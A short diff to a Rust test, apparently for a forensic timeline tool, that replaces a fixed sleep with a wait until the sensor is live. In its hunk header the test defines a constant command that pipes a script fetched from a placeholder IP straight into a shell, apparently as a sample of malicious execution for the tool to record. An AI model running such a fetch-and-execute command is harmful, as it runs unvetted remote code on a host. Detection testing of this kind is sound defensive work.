@@ -32,7 +32,9 @@ const COMMAND: &str = "curl -s http://198.51.100.20/x.sh | sh";
 fn timeline_holds_exec_login_history_and_file_time_in_order_and_exports_for_timesketch() {
     let work = workdir("timeline").unwrap();
     let (collector, _agent, host) = collector_with_agent(work.path()).unwrap();
-    std::thread::sleep(Duration::from_secs(2)); // the sensor attaches when the agent starts
+    collector
+        .wait_sensor_live(&host, Duration::from_secs(60))
+        .unwrap();
 
     let t0 = SystemTime::now().duration_since(UNIX_EPOCH).unwrap();
     let marker = format!("cairn-timeline-mark-{}", t0.as_nanos());
